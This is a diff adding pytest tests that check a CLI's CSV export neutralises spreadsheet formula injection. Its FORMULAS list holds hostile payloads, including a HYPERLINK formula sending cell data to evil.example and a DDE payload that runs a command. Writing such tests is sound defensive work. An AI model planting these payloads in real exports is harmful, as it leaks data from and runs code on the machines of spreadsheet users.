@@ -8,13 +8,20 @@ an attachment), and cells that a spreadsheet runs as a formula.
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
+import io
 import re
+from pathlib import Path
 
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+from detente.cli import main
+from detente.cli.output import spreadsheet_safe
+from detente.ops import notifications
+from detente.ops.auth import load_actor
 from detente.ops.ical import CalendarItem, escape, to_ical
 
 from ..conftest import Api, World
@@ -66,3 +73,41 @@ def test_escaped_text_is_one_clean_content_line(s: str) -> None:
     day = dt.date(2026, 1, 1)
     ics = to_ical([CalendarItem(uid="u", summary=s, start=day, end=day)], stamp=dt.datetime(2026, 1, 1))
     assert sum(line.startswith("SUMMARY:") for line in _lines(ics)) == 1
+
+
+FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
+            "\t=1+1", "\r=1+1"]  # fmt: skip
+
+
+def test_a_csv_list_never_hands_a_spreadsheet_another_partys_formula(
+    world: World, ops_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    with world.db.session() as s:
+        a = load_actor(s, world.user["a_officer"])
+        for f in FORMULAS:
+            notifications.declare(
+                s,
+                a,
+                {"activity_type": f, "title": f, "area": f, "start_date": dt.date(2030, 6, 1),
+                 "end_date": dt.date(2030, 6, 2), "troops": 100},
+            )  # fmt: skip
+    capsys.readouterr()
+    main(["--db", str(tmp_path / "d.duckdb"), "ops", "--ops-url", ops_url, "list", "notifications", "--as",
+          "b_officer", "--format", "csv"])  # fmt: skip
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert len(rows) == len(FORMULAS)
+    cells = [v for r in rows for v in r.values()]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert sorted(r["title"] for r in rows) == sorted("'" + f.replace("\r", "\n") for f in FORMULAS)  # kept, made inert
+
+
+def test_numbers_and_plain_text_stay_as_they_are() -> None:
+    assert [spreadsheet_safe(v) for v in (-3, "-3.5", "1e5", "Aland", "", None)] == [
+        -3,
+        "-3.5",
+        "1e5",
+        "Aland",
+        "",
+        None,
+    ]
+    assert spreadsheet_safe("=1+1") == "'=1+1" and spreadsheet_safe("-1+1") == "'-1+1"
